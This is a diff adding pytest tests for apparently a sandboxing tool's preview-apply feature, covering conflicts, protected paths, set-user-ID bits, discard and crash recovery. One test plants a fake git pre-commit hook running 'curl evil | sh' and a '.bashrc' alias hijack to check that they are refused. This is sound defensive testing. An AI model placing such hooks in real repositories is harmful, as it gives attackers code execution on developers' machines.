@@ -1,0 +1,218 @@
+"""Apply, conflicts, protection and discard on copy-mechanism previews (no sandbox needed).
+
+A copy preview's tree is what the sandboxed command would write; these tests
+write it directly, then check what apply does to the real workspace.
+"""
+
+from __future__ import annotations
+
+import os
+
+import pytest
+
+from corral._exceptions import ApplyConflict, PreviewError
+from corral.preview import Preview
+from corral.preview import _apply as apply_module
+from tests.tree_listing import tree
+
+
+def write(path, data="x", mode=0o644):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w") as f:
+        f.write(data)
+    os.chmod(path, mode)
+
+
+@pytest.fixture
+def world(tmp_path):
+    ws, state = tmp_path / "ws", tmp_path / "state"
+    ws.mkdir()
+    write(f"{ws}/keep.txt", "keep\n")
+    write(f"{ws}/edit.txt", "old\n")
+    write(f"{ws}/gone/inner.txt", "inner\n")
+    write(f"{ws}/mode.sh", "echo\n", 0o644)
+    os.symlink("keep.txt", f"{ws}/link")
+    return str(ws), str(state)
+
+
+def copy_preview(ws, state):
+    preview = Preview.create(ws, state_dir=state, mechanism="copy")
+    return preview, os.path.join(preview.path, "tree")
+
+
+def command_changes(t):
+    """What a sandboxed command would do, done to the copy."""
+    write(f"{t}/edit.txt", "new\n")
+    write(f"{t}/added/deep/file.txt", "added\n")
+    os.unlink(f"{t}/gone/inner.txt")
+    os.rmdir(f"{t}/gone")
+    os.chmod(f"{t}/mode.sh", 0o755)
+    os.unlink(f"{t}/link")
+    os.symlink("edit.txt", f"{t}/link")
+
+
+def test_apply_makes_the_workspace_the_tree_the_command_saw(world):
+    ws, state = world
+    preview, t = copy_preview(ws, state)
+    before = tree(ws)
+    command_changes(t)
+    assert tree(ws) == before  # nothing lands before apply
+    expected = tree(t)
+    result = preview.apply()
+    assert tree(ws) == expected
+    assert result.preview_removed
+    assert not os.path.exists(preview.path)
+    assert set(result.applied) == {
+        "edit.txt",
+        "added",
+        "added/deep",
+        "added/deep/file.txt",
+        "gone",
+        "gone/inner.txt",
+        "mode.sh",
+        "link",
+    }
+
+
+def test_refuses_a_file_edited_in_the_workspace_since_the_preview_began(world):
+    ws, state = world
+    preview, t = copy_preview(ws, state)
+    command_changes(t)
+    write(f"{ws}/edit.txt", "the user's edit\n")
+    with pytest.raises(ApplyConflict) as info:
+        preview.apply()
+    assert info.value.paths == ("edit.txt",)
+    with open(f"{ws}/edit.txt") as f:
+        assert f.read() == "the user's edit\n"  # nothing was written
+    assert not os.path.exists(f"{ws}/added")
+
+
+def test_refuses_a_file_deleted_or_created_in_the_workspace(world):
+    ws, state = world
+    preview, t = copy_preview(ws, state)
+    command_changes(t)
+    os.unlink(f"{ws}/mode.sh")
+    write(f"{ws}/added/deep/file.txt", "the user made this too\n")
+    with pytest.raises(ApplyConflict) as info:
+        preview.apply()
+    assert set(info.value.paths) == {"mode.sh", "added/deep/file.txt"}
+
+
+def test_skip_conflicts_applies_the_rest_and_keeps_the_preview(world):
+    ws, state = world
+    preview, t = copy_preview(ws, state)
+    command_changes(t)
+    write(f"{ws}/edit.txt", "the user's edit\n")
+    result = preview.apply(skip_conflicts=True)
+    assert result.skipped_conflicts == ("edit.txt",)
+    assert not result.preview_removed
+    with open(f"{ws}/edit.txt") as f:
+        assert f.read() == "the user's edit\n"
+    with open(f"{ws}/added/deep/file.txt") as f:
+        assert f.read() == "added\n"
+    # what is left to apply is exactly the conflict
+    assert [c.path for c in Preview.open(preview.id, state_dir=state).changes()] == ["edit.txt"]
+
+
+def test_force_overwrites_the_conflict(world):
+    ws, state = world
+    preview, t = copy_preview(ws, state)
+    command_changes(t)
+    write(f"{ws}/edit.txt", "the user's edit\n")
+    expected = tree(t)
+    preview.apply(force=True)
+    assert tree(ws) == expected
+
+
+def test_refuses_protected_paths_unless_named(world):
+    ws, state = world
+    preview, t = copy_preview(ws, state)
+    write(f"{t}/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
+    write(f"{t}/sub/.bashrc", "alias ls=evil\n")
+    write(f"{t}/ok.txt", "fine\n")
+    with pytest.raises(PreviewError, match="protected paths") as info:
+        preview.apply()
+    assert ".git/hooks/pre-commit" in info.value.message
+    assert "sub/.bashrc" in info.value.message
+    assert not os.path.exists(f"{ws}/ok.txt")  # all or nothing
+    with pytest.raises(PreviewError, match=r"sub/\.bashrc"):
+        preview.apply(allow_protected=(".git/hooks",))
+    preview.apply(allow_protected=(".git/hooks", "sub/.bashrc"))
+    assert os.path.exists(f"{ws}/.git/hooks/pre-commit")
+    assert os.path.exists(f"{ws}/sub/.bashrc")
+
+
+def test_extra_protection_patterns_apply(world):
+    ws, state = world
+    preview, t = copy_preview(ws, state)
+    write(f"{t}/secrets/key.pem", "k")
+    with pytest.raises(PreviewError, match=r"filesystem\.denyWrite"):
+        preview.apply(protect=[("**/*.pem", "filesystem.denyWrite: **/*.pem")])
+
+
+def test_refuses_set_id_bits(world):
+    ws, state = world
+    preview, t = copy_preview(ws, state)
+    write(f"{t}/suid", "x", 0o4755)
+    with pytest.raises(PreviewError, match="set-user-ID"):
+        preview.apply()
+
+
+def test_discard_leaves_nothing_in_the_state_dir(world):
+    ws, state = world
+    before = tree(ws)
+    preview, t = copy_preview(ws, state)
+    command_changes(t)
+    preview.discard()
+    assert os.listdir(os.path.join(state, "previews")) == []
+    assert not os.path.exists(os.path.join(state, "apply-journals"))
+    assert tree(ws) == before
+    with pytest.raises(PreviewError):
+        Preview.open(preview.id, state_dir=state)
+
+
+def test_a_held_preview_refuses_a_second_user(world):
+    ws, state = world
+    preview, _t = copy_preview(ws, state)
+    with preview.hold(), pytest.raises(PreviewError, match="another corral command"):
+        preview.apply()
+
+
+def test_refuses_a_state_dir_inside_the_workspace(tmp_path):
+    with pytest.raises(PreviewError, match="overlaps"):
+        Preview.create(str(tmp_path), state_dir=str(tmp_path / "state"), mechanism="copy")
+
+
+def test_open_rejects_ids_that_are_not_preview_ids(world):
+    _ws, state = world
+    with pytest.raises(PreviewError):
+        Preview.open("../../etc", state_dir=state)
+
+
+def test_an_apply_killed_after_the_journal_is_completed_by_the_next_lookup(world, monkeypatch):
+    ws, state = world
+    preview, t = copy_preview(ws, state)
+    command_changes(t)
+
+    class Killed(BaseException):
+        pass
+
+    renames = []
+
+    def fault(label):
+        if label.endswith("-rename"):
+            renames.append(label)
+            if len(renames) == 2:
+                raise Killed  # the second file was not renamed into place yet
+
+    monkeypatch.setattr(apply_module, "FAULT_HOOK", fault)
+    expected = tree(t)
+    with pytest.raises(Killed):
+        preview.apply()
+    monkeypatch.setattr(apply_module, "FAULT_HOOK", None)
+    assert os.listdir(os.path.join(state, "apply-journals")) == [f"{preview.id}.json"]
+    assert (
+        Preview.list(state_dir=state) == []
+    )  # the lookup completed the apply, which removed the preview
+    assert tree(ws) == expected
+    assert os.listdir(os.path.join(state, "apply-journals")) == []
